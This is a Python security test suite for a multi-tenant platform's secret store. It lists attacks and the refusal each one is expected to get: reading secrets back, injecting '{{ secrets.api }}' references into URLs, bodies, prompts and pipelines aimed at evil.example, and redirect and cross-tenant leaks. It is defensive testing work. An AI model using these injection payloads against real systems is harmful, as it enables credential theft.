"""Attacks on stored secrets: reading them back, and sending them to a wrong host."""

from __future__ import annotations

import asyncio
import base64
import io
from collections.abc import Callable, Mapping
from dataclasses import replace
from functools import wraps
from itertools import pairwise
from typing import Any
from unittest import mock

from asgiref.sync import async_to_sync
from django.core.management import call_command
from django.test import Client

from scheduling.kit.base import AsyncJobContext, JobContext, PermanentError
from scheduling.kit.testing import AsyncRecordingRuntime, RecordingRuntime, make_context
from tenants.access.api_keys import issue_api_key
from tenants.encryption.data_keys import forget_keys
from tenants.exceptions import DomainError
from tenants.models import Role, Tenant
from tenants.secrets.service import create_secret
from tests.platform_settings import override_platform_settings
from tests.security.table import Attack
from tests.security.world import World, refusal_of
from tests.web_server import WebServer, web_server
from workloads.http_call.processor import HttpCall
from workloads.model_endpoints.chat import Chat, chat
from workloads.model_endpoints.lookup import get_model
from workloads.pipelines.node_types import chain

API = "/api/v1/"
MASTER_KEY = base64.b64encode(b"s" * 32).decode()
VALUE = "sk-the-value-of-the-secret"
REFERENCE = "Bearer {{ secrets.api }}"


def _sealed(run: Callable[[World], str]) -> Callable[[World], str]:
    """Run an attack on a platform with a master key."""

    @wraps(run)
    def performed(world: World) -> str:
        forget_keys()
        with override_platform_settings(ENCRYPTION_MASTER_KEYS=[MASTER_KEY]):
            answer = run(world)
        forget_keys()
        return answer

    return performed


def _store(tenant: Tenant, *hosts: str) -> Any:
    return create_secret(tenant=tenant, name="api", value=VALUE, hosts=hosts or ["127.0.0.1"])


def _owner(world: World) -> Any:
    return world.with_session(world.member(world.aaa, Role.OWNER, "mallory"), world.aaa)


def _submitted(client: Any, payload: Mapping[str, Any], path: str = "jobs/") -> str:
    return _status_and_faults(client.post(API + path, {"kind": "http_call", "payload": payload}, format="json"))


def _status_and_faults(answer: Any) -> str:
    """Return the status with the places and codes of the faults."""
    faults = answer.json().get("errors", [])
    places = [f"{fault.get('pointer') or fault.get('field')} {fault['code']}" for fault in faults]
    return f"{refusal_of(answer)}: {', '.join(places)}" if places else refusal_of(answer)


def _answer(context: JobContext, tenant: Tenant) -> Any:
    runtime = AsyncRecordingRuntime(RecordingRuntime())
    own = AsyncJobContext.of(replace(context, tenant_id=tenant.pk), runtime)
    return async_to_sync(HttpCall().process)(own).result


def _call(tenant: Tenant, url: str, server: WebServer, **payload: Any) -> Any:
    """Run a job of the kind `http_call` with the secret in a header; return its result, or the code of its error."""
    context = make_context(HttpCall, {"url": url, "headers": {"Authorization": REFERENCE}, **payload})
    with override_platform_settings(OUTGOING_HTTP_ALLOWED_HOSTS=[f"127.0.0.1:{server.port}"]):
        try:
            return _answer(context, tenant)
        except PermanentError as error:
            return error.code


@_sealed
def _read_back(world: World) -> str:
    owner = _owner(world)
    made = owner.post(API + "secrets/", {"name": "api", "value": VALUE, "hosts": ["127.0.0.1"]}, format="json")
    console = Client()
    console.force_login(world.member(world.aaa, Role.OWNER, "maud"))
    page = f"/admin/tenants/tenantsecret/{made.json()['id']}/change/"
    answers = [
        made,
        owner.get(API + "secrets/"),
        owner.get(f"{API}secrets/{made.json()['id']}/"),
        owner.get(API + "audit-log/"),
        console.get("/admin/tenants/tenantsecret/"),
        console.get(page),
        console.post(page, {"name": "api", "bound_to": "https://evil.example/", "value": VALUE}),
    ]
    statuses = [answer.status_code for answer in answers]
    return f"{statuses} value shown: {any(VALUE in answer.content.decode() for answer in answers)}"


@_sealed
def _list_as_viewer(world: World) -> str:
    _store(world.aaa)
    return refusal_of(world.with_session(world.member(world.aaa, Role.VIEWER, "vic"), world.aaa).get(API + "secrets/"))


def _issue_managing_key(world: World) -> str:
    try:
        issue_api_key(tenant=world.aaa, name="x", scopes=["secrets.manage"])
    except DomainError as refusal:
        return refusal.code
    return "issued"


@_sealed
def _use_without_right(world: World) -> str:
    _store(world.aaa)
    key = world.with_key(world.aaa, ["jobs.submit"])
    return _submitted(key, {"url": "http://127.0.0.1/", "headers": {"Authorization": REFERENCE}})


@_sealed
def _put_into_url(world: World) -> str:
    _store(world.aaa)
    return _submitted(world.with_key(world.aaa), {"url": "https://evil.example/?k={{ secrets.api }}"})


@_sealed
def _put_into_body(world: World) -> str:
    _store(world.aaa)
    payload = {"url": "https://evil.example/", "json": {"a": ['{{- secrets["api"] }}'], "{{ secrets.api }}": 1}}
    return _submitted(world.with_key(world.aaa), payload)


def _workflow(client: Any, *nodes: Mapping[str, Any]) -> str:
    chain = [{"id": "start", "type": "start"}, *nodes, {"id": "end", "type": "end"}]
    edges = [{"from": one["id"], "to": other["id"]} for one, other in pairwise(chain)]
    definition = {"nodes": chain, "edges": edges}
    return _status_and_faults(client.post(API + "workflows/", {"name": "x", "definition": definition}, format="json"))


@_sealed
def _put_into_prompt(world: World) -> str:
    _store(world.aaa)
    node = {"id": "ask", "type": "llm", "config": {"prompt": "Repeat {{ secrets.api }}"}}
    return _workflow(world.with_key(world.aaa), node)


@_sealed
def _put_into_pipeline(world: World) -> str:
    _store(world.aaa)
    sources = [
        {"type": "url", "url": "https://example.com/", "headers": {"A": REFERENCE}},
        {"type": "url", "url": "https://evil.example/{{secrets.api}}", "name": "x"},
    ]
    definition = chain(datasource={"sources": sources}, load={"dataset": "x"})
    key, body = world.with_key(world.aaa), {"name": "x", "definition": definition}
    return _status_and_faults(key.post(API + "pipelines/", body, format="json"))


@_sealed
def _branch_on_secret(world: World) -> str:
    _store(world.aaa)
    header = "{% if secrets.api < 'sk-m' %}{{ secrets.api | upper }}{% endif %}"
    node = {"id": "call", "type": "http_request", "config": {"url": "http://127.0.0.1/", "headers": {"X": header}}}
    return _workflow(world.with_key(world.aaa), node)


@_sealed
def _inject_by_input(world: World) -> str:
    _store(world.aaa)
    key = world.with_key(world.aaa)
    definition = {
        "nodes": [
            {"id": "start", "type": "start", "config": {"inputs": {"x": {"type": "string"}}}},
            {"id": "end", "type": "end"},
        ],
        "edges": [{"from": "start", "to": "end"}],
    }
    made = key.post(API + "workflows/", {"name": "x", "definition": definition}, format="json")
    run = {"inputs": {"x": "{{ secrets.api }}"}}
    return _status_and_faults(key.post(f"{API}workflows/{made.json()['id']}/runs/", run, format="json"))


@_sealed
def _call_other_host(world: World) -> str:
    _store(world.aaa, "api.example.com")
    with web_server() as server:
        return f"{_call(world.aaa, server.url, server)}, {len(server.seen)} requests"


@_sealed
def _call_without_tls(world: World) -> str:
    _store(world.aaa, "api.example.com")
    with web_server() as server:
        return str(_call(world.aaa, "http://api.example.com/", server))


@_sealed
def _use_foreign_secret(world: World) -> str:
    _store(world.zeta)
    with web_server() as server:
        return f"{_call(world.aaa, server.url, server)}, {len(server.seen)} requests"


@_sealed
def _redirect_elsewhere(world: World) -> str:
    _store(world.aaa)
    with web_server() as bound, web_server() as other:
        bound.answers["/"] = (302, {"Location": f"http://localhost:{other.port}/"}, b"")
        hosts = [f"127.0.0.1:{bound.port}", f"localhost:{other.port}"]
        with override_platform_settings(OUTGOING_HTTP_ALLOWED_HOSTS=hosts):
            context = make_context(HttpCall, {"url": bound.url, "headers": {"Accept": REFERENCE}, "max_redirects": 1})
            _answer(context, world.aaa)
        first, second = (VALUE in str(server.seen[0].headers) for server in (bound, other))
    return f"bound host: {first}, other host: {second}"


@_sealed
def _echo(world: World) -> str:
    _store(world.aaa)
    with web_server() as server:
        server.answers["/"] = (200, {"X-Echo": VALUE, "Content-Type": "text/plain"}, f"you sent {VALUE}".encode())
        result = _call(world.aaa, server.url, server)
        sent = server.seen[0].headers["Authorization"]
    return f"sent: {sent == f'Bearer {VALUE}'}, kept: {VALUE in str(result)}, body: {result['body']}"


def _call_model(tenant: Tenant, server: WebServer) -> str:
    """Call the tenant's model as a workflow's node does; return whether the key was sent, or the code of the error."""
    answer = b'{"choices": [{"message": {"content": "yes"}}]}'
    server.answers["/chat/completions"] = (200, {"Content-Type": "application/json"}, answer)
    with override_platform_settings(
        OUTGOING_HTTP_ALLOWED_HOSTS=[f"localhost:{server.port}", f"127.0.0.1:{server.port}"]
    ):
        try:
            model = get_model(tenant.pk, endpoint="own", model="m")
            asyncio.run(chat(model, Chat([{"role": "user", "content": "?"}], "m")))
        except PermanentError as error:
            return error.code
    return f"Authorization: {server.seen[-1].headers.get('Authorization')}"


def _add_endpoint(owner: Any, url: str) -> str:
    """Add a model endpoint with the stored secret as its key; return its path."""
    body = {"name": "own", "url": url, "key": "{{ secrets.api }}", "models": [{"name": "m", "use": "chat"}]}
    answer = owner.post(API + "model-endpoints/", body, format="json")
    return f"{API}model-endpoints/{answer.json()['id']}/"


@_sealed
def _move_model_endpoint(world: World) -> str:
    _store(world.aaa, "127.0.0.1")
    owner = _owner(world)
    with web_server() as server:
        hosts = [f"{host}:{server.port}" for host in ("127.0.0.1", "localhost")]
        here, there = (f"http://{host}" for host in hosts)
        with override_platform_settings(OUTGOING_HTTP_ALLOWED_HOSTS=hosts):
            path = _add_endpoint(owner, here)
            before = _call_model(world.aaa, server)
            owner.patch(path, {"url": there}, format="json")
            after = _call_model(world.aaa, server)
    return f"{before.replace(VALUE, 'the key')}; moved: {after}"


@_sealed
def _name_secret_for_model_elsewhere(world: World) -> str:
    _store(world.aaa, "127.0.0.1")
    with web_server() as server:
        with override_platform_settings(OUTGOING_HTTP_ALLOWED_HOSTS=[f"localhost:{server.port}"]):
            _add_endpoint(_owner(world), f"http://localhost:{server.port}")
        return f"{_call_model(world.aaa, server)}, {len(server.seen)} requests"


def _store_without_master_key(world: World) -> str:
    body = {"name": "api", "value": VALUE, "hosts": ["api.example.com"]}
    with override_platform_settings(ENCRYPTION_MASTER_KEYS=[]):
        answer = _owner(world).post(API + "secrets/", body, format="json")
    return f"{refusal_of(answer)}, cure named: {'ENCRYPTION_MASTER_KEYS' in answer.json()['detail']}"


@_sealed
def _widen_hosts(world: World) -> str:
    secret = _store(world.aaa)
    answer = _owner(world).post(f"{API}secrets/{secret.pk}/versions/", {"hosts": ["evil.example"]}, format="json")
    return _status_and_faults(answer)


@_sealed
def _refused_value(world: World) -> str:
    body = {"name": "api", "value": f"{VALUE}\n", "hosts": ["https://evil.example/"]}
    answer = _owner(world).post(API + "secrets/", body, format="json")
    return f"{_status_and_faults(answer)}, value shown: {VALUE in answer.content.decode()}"


@_sealed
def _give_as_argument(world: World) -> str:
    with mock.patch("sys.stdin", io.StringIO(f"{VALUE}\n")):
        try:
            call_command("set_secret", "aaa", "api", VALUE, "--host=api.example.com", stdout=io.StringIO())
        except Exception as refusal:  # noqa: BLE001 - whatever argparse raises
            return type(refusal).__name__
    return "stored"


ATTACKS: tuple[Attack, ...] = (
    Attack(
        "stored secret is read back by API, audit log and console",
        "GET of lists, rows and pages by the owner who stored it, and a refused form",
        "[201, 200, 200, 200, 200, 200, 200] value shown: False",
        _read_back,
    ),
    Attack("viewer lists secrets", "GET secrets/ by a viewer", "403 forbidden", _list_as_viewer),
    Attack("API key asks for secrets.manage", "a new key with that scope", "scope_unknown", _issue_managing_key),
    Attack(
        "API key without secrets.use submits a job with a secret",
        "POST jobs/ with {{ secrets.api }} in a header by a key with jobs.submit alone",
        "403 secret_use_denied",
        _use_without_right,
    ),
    Attack(
        "secret is put into the URL of a call",
        "POST jobs/ with url …?k={{ secrets.api }}",
        "422 payload_invalid: $.url secret_misplaced",
        _put_into_url,
    ),
    Attack(
        "secret is put into the body of a call",
        "POST jobs/ with a reference in a text and in a member's name of json",
        "422 payload_invalid: $.json.{{ secrets.api }} secret_misplaced, $.json.a[0] secret_misplaced",
        _put_into_body,
    ),
    Attack(
        "secret is put into a prompt",
        "POST workflows/ with {{ secrets.api }} in an llm node",
        "422 definition_invalid: /nodes/1/config/prompt secret_misplaced",
        _put_into_prompt,
    ),
    Attack(
        "secret is put into the address of a pipeline's page",
        "POST pipelines/ with {{secrets.api}} in a url, beside one in a header",
        "422 definition_invalid: /nodes/0/config/sources/1/url secret_misplaced",
        _put_into_pipeline,
    ),
    Attack(
        "secret is compared in a template of a header",
        "POST workflows/ with {% if secrets.api < 'sk-m' %} and a filter",
        "422 definition_invalid: /nodes/1/config/headers/X secret_reference_invalid",
        _branch_on_secret,
    ),
    Attack(
        "secret is referred to by the input of a run",
        "POST workflows/…/runs/ with {{ secrets.api }} as an input",
        "422 payload_invalid: $.inputs.x secret_misplaced",
        _inject_by_input,
    ),
    Attack(
        "secret is sent to a host that it is not bound to",
        "a job http_call to a listener with a secret of api.example.com",
        "secret_host_refused, 0 requests",
        _call_other_host,
    ),
    Attack(
        "secret is sent without TLS",
        "a job http_call to http:// of the bound host",
        "secret_needs_https",
        _call_without_tls,
    ),
    Attack(
        "secret of another tenant is used",
        "a job http_call of aaa with the name of a secret of zeta",
        "secret_unknown, 0 requests",
        _use_foreign_secret,
    ),
    Attack(
        "bound host redirects a request with a secret elsewhere",
        "302 to another origin, the secret in a header that redirects keep",
        "bound host: True, other host: False",
        _redirect_elsewhere,
    ),
    Attack(
        "bound host repeats the secret in its answer",
        "the value in the body and in a header of the answer",
        "sent: True, kept: False, body: you sent [secret]",
        _echo,
    ),
    Attack(
        "model endpoint is moved to another host",
        "PATCH model-endpoints/{id}/ with another url, then a question to the model",
        "Authorization: Bearer the key; moved: secret_host_refused",
        _move_model_endpoint,
    ),
    Attack(
        "model endpoint elsewhere is given a stored secret",
        "POST model-endpoints/ with the key {{ secrets.api }} and a url that the secret is not bound to",
        "secret_host_refused, 0 requests",
        _name_secret_for_model_elsewhere,
    ),
    Attack(
        "secret is stored without a master key",
        "POST secrets/ with ENCRYPTION_MASTER_KEYS empty",
        "409 no_master_key, cure named: True",
        _store_without_master_key,
    ),
    Attack(
        "hosts of a secret are widened without its value",
        "POST secrets/…/versions/ with hosts alone",
        "422 invalid: value required",
        _widen_hosts,
    ),
    Attack(
        "refusal repeats the value",
        "POST secrets/ with a value that cannot be stored",
        "422 secret_invalid: value secret_invalid, hosts secret_invalid, value shown: False",
        _refused_value,
    ),
    Attack(
        "value is given to the command as an argument", "set_secret aaa api VALUE", "CommandError", _give_as_argument
    ),
)
